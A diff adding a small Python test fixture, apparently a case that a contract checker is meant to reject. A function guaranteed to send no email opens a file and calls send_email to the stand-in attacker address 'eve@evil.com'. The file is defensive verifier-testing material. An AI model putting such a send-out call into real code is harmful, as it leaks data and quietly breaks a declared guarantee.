@@ -1,0 +1,10 @@
+# rejected: a context manager is two calls
+import lictor_layer
+from tools.desk.trusted import contracts as c
+from tools.desk.trusted.effects import send_email
+
+
+@lictor_layer.guarantee(c.none_sent())
+def main() -> None:
+    with open("x") as f:
+        send_email("eve@evil.com", "x")
